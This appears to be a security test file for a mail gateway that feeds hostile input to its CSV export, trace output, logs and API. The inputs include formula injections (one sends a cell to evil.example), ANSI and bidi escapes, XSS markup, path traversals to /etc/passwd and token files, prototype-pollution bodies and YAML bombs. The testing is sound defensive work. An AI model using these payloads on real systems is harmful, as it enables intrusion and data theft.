/** What strangers wrote is shown to an operator and obeyed by nobody: spreadsheet, terminal, log. And the API asks who is there. */
import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { issue } from '../support/certificates.ts'
import { until } from '../support/program.ts'
import type { Talk } from '../support/scripted-smtp.ts'
import { all, type Family, type Seen, type Try } from './attack.ts'
import { hopRoot, startHops } from './hops.ts'
import { content, makeMark } from './letters.ts'
import { type Stage, sharedStage } from './stage.ts'

export const control: Family = {
  name: 'control',
  title: 'exports, traces, logs and the API (2.10, T13, T16)',
  async run({ attempt }) {
    const stage = await sharedStage()
    await cells(stage, attempt)
    await terminals(stage, attempt)
    await whatPeersSay(attempt)
    await api(stage, attempt)
  },
}

const formulas = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '+1',
  '\t=1',
  '"=1+1"',
  ';=1',
  '=HYPERLINK("http://evil.example/"&A1,"x")',
  '\uff1dcmd',
]

async function cells(stage: Stage, attempt: Try): Promise<void> {
  for (const formula of formulas) {
    const mark = makeMark()
    const text = content({ mark, to: 'john@shared.example' }).replace(
      `Subject: ${mark}`,
      `Subject: ${Buffer.from(formula).toString('latin1')}`,
    )
    await stage.send({ ehlo: '=cmd' }, { from: '<=s@away.example>', to: ['<john@shared.example>'], content: text })
    await attempt(`subject ${formula} in the exported trace`, 'no cell that begins a formula', async () => {
      const csv = await until('the trace', async () => {
        const { text: said } = await stage.ask('GET', `/v1/trace.csv?messageId=${mark}@border.example`)
        return said.split('\r\n').length > 3 ? said : undefined
      })
      const bad = cellsOf(csv).filter(
        (cell) => /^(?:["' ]*[=+@\uff1d]|["' ]*[\t\r\n\0]|["' ]*-\D)/.test(cell) && !cell.startsWith("'"),
      )
      return all('each with an apostrophe before it', [bad.length === 0, bad.join(' | ')])
    })
  }
}

/** RFC 4180. */
function cellsOf(csv: string): readonly string[] {
  return [...csv.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/gm)].map(([, quoted, plain]) =>
    (quoted ?? plain ?? '').replaceAll('""', '"'),
  )
}

const sequences: Readonly<Record<string, string>> = {
  'a window title by ANSI': '\x1b]0;owned\x07',
  'a screen wiped by ANSI': '\x1b[2J\x1b[H',
  'C1 control': '\u009b2J',
  'a bidi override': '\u202egnp.exe',
  'a log line of its own': '\r\n {"level":"info","msg":"forged-line"}',
  'a bare CR': 'x\rforged-line',
  markup: '"><img src=x onerror=alert(1)>',
}

async function terminals(stage: Stage, attempt: Try): Promise<void> {
  for (const [name, bytes] of Object.entries(sequences)) {
    const mark = makeMark()
    const wire = Buffer.from(bytes).toString('latin1')
    const text = content({ mark, to: 'john@shared.example', from: `"${wire}" <s@away.example>` }).replace(
      `Subject: ${mark}`,
      `Subject: ${wire}`,
    )
    await stage.send({}, { from: '<s@away.example>', to: ['<john@shared.example>'], content: text })
    await attempt(`subject and name with ${name}: trace, log`, 'escaped', async () => {
      const id = `${mark}@border.example`
      const said = await until('the trace', async () => {
        const { out } = await stage.gateway.run('trace', '--message-id', id)
        return out.includes(mark) ? out : undefined
      })
      const { out: json } = await stage.gateway.run('--json', 'trace', '--message-id', id)
      const log = stage.gateway.log()
      return all(
        'escaped',
        [!unsafe.test(said), `raw in the trace: ${unsafe.exec(said)?.[0] ?? ''}`],
        [!/[\0-\x08\x0b-\x1f\x7f]/.test(json), 'raw in the JSON'],
        [!said.split('\n').some((line) => line.trimStart().startsWith('forged-line')), 'a line of its own'],
        [
          !unsafe.test(log) && !log.split('\n').some((line) => line.includes('forged-line') && !line.includes('{')),
          'raw in the log',
        ],
      )
    })
  }
}
const unsafe = /[\0-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/

/** What a next hop answers and what a certificate is called, where an operator reads it. */
async function whatPeersSay(attempt: Try): Promise<void> {
  const words = '=1+1 <img src=x onerror=alert(1)> \x1b]0;owned\x07 \u202egnp'
  const refuse = (line: string, talk: Talk): boolean => {
    if (!line.startsWith('RCPT')) return false
    talk.raw(`550 5.1.1 ${Buffer.from(words).toString('latin1')}\r\n`)
    return true
  }
  const named = issue({ ca: hopRoot, names: ['evil.example'], commonName: '=1+1<svg onload=alert(1)>' })
  await using hops = await startHops({
    says: { tlsPolicy: 'none', on: refuse },
    is: { tls: { cert: named.chain, key: named.key } },
  })
  for (const [name, what] of [
    ['says', 'reply of a next hop'],
    ['is', 'name in the certificate of a next hop'],
  ] as const)
    await attempt(`${what} with a formula, markup and ANSI: trace, CSV, log, answer`, 'escaped', async () => {
      const mark = makeMark()
      const { reply } = await hops.send(name, content({ mark, from: 's@sender.example' }))
      const ask = ['trace', '--message-id', `${mark}@border.example`]
      const said = await until('the trace', async () => {
        const { out } = await hops.gateway.run(...ask)
        return /FAIL|DEFER|REJECT/.test(out) ? out : undefined
      })
      const { out: json } = await hops.gateway.run('--json', ...ask)
      const csv = await fetch(`${hops.gateway.url}/v1/trace.csv?messageId=${mark}@border.example`, {
        headers: { authorization: `Bearer ${hops.gateway.token}` },
      }).then((answer) => answer.text())
      const raw = [said, json, csv.replaceAll('\r\n', '\n'), hops.gateway.log(), reply].find((text) =>
        unsafe.test(text),
      )
      const formula = cellsOf(csv).find((cell) => /^[=+@\t]/.test(cell))
      return all(
        reply,
        [/^[45]5\d /.test(reply), reply],
        [name === 'is' || said.includes('=1+1'), 'it is not in the trace, so nothing was tried'],
        [raw === undefined, `raw: ${raw ?? ''}`],
        [formula === undefined, `a cell begins a formula: ${formula ?? ''}`],
      )
    })
}

async function api(stage: Stage, attempt: Try): Promise<void> {
  const { url, token } = stage.gateway
  const { text } = await stage.ask('GET', '/v1/openapi.json')
  const { paths } = JSON.parse(text) as { paths: Record<string, Record<string, unknown>> }
  const operations = Object.entries(paths).flatMap(([path, methods]) =>
    Object.keys(methods).map((method) => [method.toUpperCase(), path] as const),
  )
  const closed = operations.filter(([, path]) => path.startsWith('/v1/') && !['/v1/health', '/v1/ready'].includes(path))
  const credentials: Readonly<Record<string, Record<string, string>>> = {
    'no token': {},
    'a wrong token': { authorization: 'Bearer 00000000' },
    'a token cut short': { authorization: `Bearer ${token.slice(0, -1)}` },
    'Basic instead of Bearer': { authorization: `Basic ${Buffer.from(`x:${token}`).toString('base64')}` },
    'the token as a cookie': { cookie: `token=${token}` },
  }
  for (const [name, headers] of Object.entries(credentials))
    await attempt(`API: ${closed.length} operations with ${name}`, '401 each', async () => {
      const open: string[] = []
      for (const [method, path] of closed) {
        const answer = await fetch(`${url}${path.replaceAll(/\{\w+\}/g, 'x')}`, { method, headers })
        if (answer.status !== 401) open.push(`${method} ${path} ${answer.status}`)
      }
      return all('401 each', [open.length === 0, open.join(', ')])
    })
  await attempt('API: the token in the address', '401', async () => {
    const { status } = await fetch(`${url}/v1/directory?token=${token}&access_token=${token}`)
    return { held: status === 401, happened: `${status}` }
  })
  for (const key of ['__proto__', 'constructor'])
    await attempt(`API: ${key} in a body`, '400, nothing changed', async () => {
      const before = await stage.ask('GET', '/v1/directory')
      const poison = key === '__proto__' ? { put: [] } : { prototype: { put: [] } }
      const body: unknown = JSON.parse(`{"put": [], "${key}": ${JSON.stringify(poison)}}`)
      const { status, text: said } = await stage.ask('POST', '/v1/directory', body)
      const after = await stage.ask('GET', '/v1/directory')
      return all(`${status} ${said}`, [status === 400, `${status} ${said}`], [before.text === after.text, 'it changed'])
    })
  await polluting(stage, attempt)
  const traversals: readonly (readonly [string, string, unknown?])[] = [
    ['GET', '/v1/queue/..%2f..%2f..%2fetc%2fpasswd'],
    ['GET', '/v1/../api.token'],
    ['POST', '/v1/dkim/..%2f..%2fevil'],
    ['GET', '/v1/domains/..%2f..%2fetc%2fpasswd/dns'],
    ['PUT', '/v1/secrets/..%2f..%2fevil', { value: 'canary-canary-canary' }],
  ]
  // Whoever may apply a project names files of the machine; what is in them, other than a project, is not told.
  const files = [
    '/etc/passwd',
    '../../../etc/passwd',
    join(stage.dir, 'contoso.secret'),
    join(stage.dir, 'gw.key'),
    join(stage.gateway.data, 'api.token'),
    '/dev/zero',
    '/proc/self/environ',
  ]
  for (const file of files)
    for (const path of ['/v1/directory/import', '/v1/project/differences'])
      await attempt(`API: POST ${path} of ${file.replace(stage.dir, '')}`, '4xx, nothing of the file', async () => {
        const { status, text: said } = await stage.ask('POST', path, { file })
        const [line = ''] =
          existsSync(file) && statSync(file).isFile() ? readFileSync(file, 'utf8').split('\n') : ['root:x']
        return all(
          `${status} ${said}`,
          [status >= 400 && status < 500, `${status} ${said}`],
          [
            line.startsWith('-----BEGIN') || !said.includes(line.slice(0, 12)),
            `it tells what is in the file: ${said.replaceAll(line, '(its first line)')}`,
          ],
        )
      })
  for (const [method, path, body] of traversals)
    await attempt(
      `API: ${method} ${path}${body === undefined ? '' : ` ${JSON.stringify(body)}`}`,
      '4xx, nothing of the file',
      async (): Promise<Seen> => {
        const { status, text: said } = await stage.ask(method, path, body)
        return all(
          `${status} ${said}`,
          [status >= 400 && status < 500, `${status} ${said}`],
          [!existsSync(join(stage.dir, 'evil')) && !existsSync(join(stage.dir, 'evil.key')), 'a file was made'],
        )
      },
    )
}

/** Keys by which a careless program would give all objects a field. */
async function polluting(stage: Stage, attempt: Try): Promise<void> {
  const entry = '"internal":"p@contoso.example","external":"pp@shared.example"'
  const bodies = [
    `{"put":[{${entry},"__proto__":{"outboundOnly":true}}]}`,
    `{"put":[{${entry},"\\u005f_proto__":{"outboundOnly":true}}]}`,
  ]
  const { url, token } = stage.gateway
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' }
  const stillClosed = async (happened: string, isRefused: boolean): Promise<Seen> => {
    const { status } = await fetch(`${url}/v1/directory`)
    return all(happened, [isRefused, happened], [status === 401, `then without a token: ${status}`])
  }
  for (const body of bodies)
    await attempt(`API: POST /v1/directory ${body}`, '400', async () => {
      const answer = await fetch(`${url}/v1/directory`, { method: 'POST', headers, body })
      return stillClosed(`${answer.status} ${await answer.text()}`, answer.status === 400)
    })
  const texts = {
    '__proto__ as a field': '__proto__: { isOpen: true }\nname: x\n',
    '__proto__ by a merge key': 'a: &a { __proto__: { isOpen: true } }\n<<: *a\nname: x\n',
    'a reference to itself': 'a: &a [*a]\nname: x\n',
    'a bomb of references': `a: &a [x,x,x,x,x,x,x,x,x]\n${Array.from('bcdefghi', (c, i) => `${c}: &${c} [${`*${'abcdefgh'[i]},`.repeat(9)}]`).join('\n')}\n`,
    '20,000 brackets': `name: ${'['.repeat(20_000)}`,
  }
  const file = join(stage.dir, 'hostile.yaml')
  for (const [name, text] of Object.entries(texts))
    await attempt(`project file with ${name}`, '422 within 3 s', async () => {
      writeFileSync(file, text)
      const started = performance.now()
      const { status, text: said } = await stage.ask('POST', '/v1/project/differences', { file })
      const ms = performance.now() - started
      return stillClosed(`${status} in ${Math.round(ms)} ms: ${said}`, status === 422 && ms < 3000)
    })
}
